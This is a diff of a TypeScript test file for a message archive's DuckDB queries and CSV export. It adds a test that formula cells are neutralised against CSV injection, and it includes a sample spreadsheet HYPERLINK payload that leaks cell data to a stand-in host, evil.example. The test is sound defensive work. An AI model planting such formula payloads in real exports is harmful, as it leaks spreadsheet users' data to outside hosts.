@@ -8,15 +8,16 @@ import { mkdtemp, readdir, readFile, rm } from 'node:fs/promises';
 import { tmpdir } from 'node:os';
 import { join } from 'node:path';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
-import { DuckDbArchive } from '../../functions/adapters/duckdb/duckdb-runner.ts';
 import { LocalFolderStore } from '../../functions/adapters/local-folder/local-folder-store.ts';
 import { systemClock } from '../../functions/adapters/system-clock.ts';
+import { runExportCommand } from '../../functions/cli/export-command.ts';
+import { openArchiveRunner } from '../../functions/cli/query-runners.ts';
 import { dateInZone } from '../../functions/domain/partition.ts';
 import type { JsonObject, RawMessage } from '../../functions/domain/tencent-types.ts';
 import type { RunReport } from '../../functions/engine/report.ts';
 import { type RunOptions, runArchive } from '../../functions/engine/run-archive.ts';
-import { runExportCommand } from '../../functions/query/export-command.ts';
-import { findNamedQuery, parseParams } from '../../functions/query/named-queries.ts';
+import { findNamedQuery, parseParams, runNamedQuery } from '../../functions/query/named-queries.ts';
+import type { QueryRunner } from '../../functions/query/port.ts';
 import { type Cell, collectRows, type QueryResult } from '../../functions/query/result.ts';
 import { messagesTable, runsTable } from '../../functions/query/tables.ts';
 import { type Simulator, startSimulator } from '../../functions/simulator/index.ts';
@@ -38,7 +39,7 @@ interface Truth {
 
 let sim: Simulator;
 let dir = '';
-let db: DuckDbArchive;
+let db: QueryRunner;
 let truth: Truth[] = [];
 const reports: RunReport[] = [];
 
@@ -104,12 +105,17 @@ function groundTruth(): Truth[] {
 async function named(name: string, params: Record<string, string>): Promise<QueryResult> {
   const query = findNamedQuery(name);
   if (!query) throw new Error(`no named query ${name}`);
-  return db.runNamed(query, parseParams(query, params));
+  return runNamedQuery(db, query, parseParams(query, params));
 }
 
 async function rowObjects(result: QueryResult): Promise<Record<string, Cell>[]> {
   const rows = await collectRows(result);
   return rows.map((row) => Object.fromEntries(result.columns.map((c, i) => [c.name, row[i] ?? null])));
+}
+
+/** A local archive opened the way the CLI opens it (DuckDB, tables and views mirrored). */
+function openLocal(root: string, timeZone: string): Promise<QueryRunner> {
+  return openArchiveRunner({ archive: root, timeZone, clock: systemClock, workGroup: 'wg', database: 'db' });
 }
 
 const inRange = (from: string, to: string) => (t: Truth) => t.dt >= from && t.dt <= to;
@@ -157,7 +163,7 @@ beforeAll(async () => {
   FIRST = dts[0] as string;
   LAST = dts.at(-1) as string;
   MIDDLE = [dts[Math.floor(dts.length / 3)] as string, dts[Math.floor(dts.length / 3) + 4] as string];
-  db = await DuckDbArchive.open(dir, { timeZone: ZONE });
+  db = await openLocal(dir, ZONE);
 });
 
 afterAll(async () => {
@@ -301,7 +307,7 @@ describe('the archive on DuckDB', () => {
 
   it('gives empty tables, not errors, for an archive with no files yet', async () => {
     const empty = await mkdtemp(join(tmpdir(), 'query-empty-'));
-    const emptyDb = await DuckDbArchive.open(empty, { timeZone: 'UTC' });
+    const emptyDb = await openLocal(empty, 'UTC');
     try {
       expect(await collectRows(await emptyDb.run('SELECT count(*) FROM messages_flat'))).toEqual([['0']]);
       expect(await collectRows(await emptyDb.run('SELECT count(*) FROM runs_flat'))).toEqual([['0']]);
@@ -360,6 +366,36 @@ describe('npm run export on a local archive', () => {
     expect(records).toHaveLength(3);
     expect(typeof records[0].n).toBe('number');
     expect(typeof records[0].group_id).toBe('string');
+  });
+
+  it('neutralises formula cells in CSV and leaves every other line byte for byte as --raw-csv writes it', async () => {
+    const sql =
+      'SELECT group_id, topic_id, msg_seq, sender, text, msg_seq - 1000 AS negative FROM messages_flat ' +
+      'ORDER BY group_id, topic_id NULLS FIRST, msg_seq';
+    const safe = join(dir, 'safe.csv');
+    const raw = join(dir, 'raw.csv');
+    await runExportCommand([sql, '--out', safe, '--archive', dir], io().deps);
+    await runExportCommand([sql, '--out', raw, '--archive', dir, '--raw-csv'], io().deps);
+    const safeLines = (await readFile(safe, 'utf8')).split('\r\n');
+    const rawLines = (await readFile(raw, 'utf8')).split('\r\n');
+    expect(safeLines).toHaveLength(rawLines.length);
+    const [formulaRows] = await collectRows(
+      await db.run("SELECT count(*) FROM messages_flat WHERE regexp_matches(text, '^[=+@\\t\\r-]')"),
+    );
+    const differing = safeLines.flatMap((line, i) => (line === rawLines[i] ? [] : [[rawLines[i], line]]));
+    // The simulator's hostile texts are in the archive; exactly their lines change.
+    expect(Number(formulaRows?.[0])).toBeGreaterThan(0);
+    expect(differing).toHaveLength(Number(formulaRows?.[0]));
+    for (const [before, after] of differing) {
+      expect(after).toMatch(/,"'[=+@\t\r-]/);
+      // Only the quote and the leading apostrophe were added.
+      const bare = (line = '') => line.replace(/,"'([=+@\t\r-])/, ',$1').replaceAll('"', '');
+      expect(bare(after)).toBe(bare(before));
+      expect(before).not.toMatch(/,"'[=+@\t\r-]/);
+    }
+    // Negative numbers stay numbers: the last column is msg_seq - 1000, negative for most rows.
+    expect(safeLines.filter((l) => /,-\d+$/.test(l)).length).toBeGreaterThan(10);
+    expect(safeLines.join('\n')).toContain(`"'=HYPERLINK(""https://evil.example/?leak=""&A1,""click me"")"`);
   });
 
   it('fails on bad SQL and leaves no partial file', async () => {
